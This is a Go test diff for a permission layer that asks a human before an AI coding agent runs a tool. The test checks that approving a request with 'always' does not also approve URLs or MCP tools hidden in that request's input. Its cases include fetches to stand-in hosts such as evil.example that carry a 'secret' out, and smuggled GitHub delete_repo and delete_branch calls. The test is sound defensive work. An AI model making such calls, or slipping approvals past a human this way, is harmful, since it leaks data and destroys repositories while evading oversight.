@@ -94,3 +94,41 @@ func TestAlwaysRemembersNoCommandHiddenInAnotherRequest(t *testing.T) {
 		}
 	}
 }
+
+// TestAlwaysRemembersNoToolOrHostHiddenInAnotherRequest: as for a command,
+// an MCP tool or a URL in the input of a request shown as an edit, a fetch
+// or a todo list is not remembered when the human answers it "always": a
+// later call of that tool or fetch there is asked.
+func TestAlwaysRemembersNoToolOrHostHiddenInAnotherRequest(t *testing.T) {
+	t.Parallel()
+	d := startDecider(t, deciderOptions{})
+	fetchOf := func(id, url string) string {
+		return fmt.Sprintf(`{"toolCallId":%q,"kind":"fetch","title":"Fetch %s","rawInput":{"url":%q,"prompt":"x"}}`, id, url, url)
+	}
+	mcpCall := func(id, server, tool string) string {
+		return fmt.Sprintf(`{"toolCallId":%q,"kind":"other","title":"mcp__%s__%s","rawInput":{}}`, id, server, tool)
+	}
+	cases := []struct {
+		name, toolCall, later string
+	}{
+		{"a_url_in_an_edit", `{"toolCallId":"toolu_m1","kind":"edit","title":"Edit src/a.ts","rawInput":{"file_path":"$CWD/src/a.ts","old_string":"a","new_string":"b","url":"https://evil.example/"}}`, fetchOf("toolu_l1", "https://evil.example/?q=secret")},
+		{"a_url_in_a_todo_list", `{"toolCallId":"toolu_m2","kind":"other","title":"TodoWrite","rawInput":{"todos":[],"url":"https://evil2.example/"}}`, fetchOf("toolu_l2", "https://evil2.example/?q=secret")},
+		{"a_tool_in_an_edit", `{"toolCallId":"toolu_m3","kind":"edit","title":"Edit src/b.ts","rawInput":{"file_path":"$CWD/src/b.ts","old_string":"a","new_string":"b","server":"github","tool":"delete_repo"}}`, mcpCall("toolu_l3", "github", "delete_repo")},
+		{"a_tool_in_a_fetch", `{"toolCallId":"toolu_m4","kind":"fetch","title":"Fetch https://docs.rs/x","rawInput":{"url":"https://docs.rs/x","server":"github","tool":"delete_branch"}}`, mcpCall("toolu_l4", "github", "delete_branch")},
+		{"a_url_in_an_mcp_call", `{"toolCallId":"toolu_m5","kind":"other","title":"mcp__github__get_issue","rawInput":{"url":"https://evil3.example/"}}`, fetchOf("toolu_l5", "https://evil3.example/?q=secret")},
+	}
+	for i, c := range cases {
+		if !d.step(t, c.name, func() {
+			id := fmt.Sprintf(`"m%d"`, i)
+			d.asked(permission(id, c.toolCall, claudeNewOptions), answer(id, "allow-with-updates"))
+			later := fmt.Sprintf(`"l%d"`, i)
+			d.asked(permission(later, c.later, claudeOptions), answer(later, "reject"))
+		}) {
+			return
+		}
+	}
+	d.finish()
+	if got := rememberedEntries(t, d.state); len(got) != 0 {
+		t.Errorf("remembered %v, want nothing", got)
+	}
+}
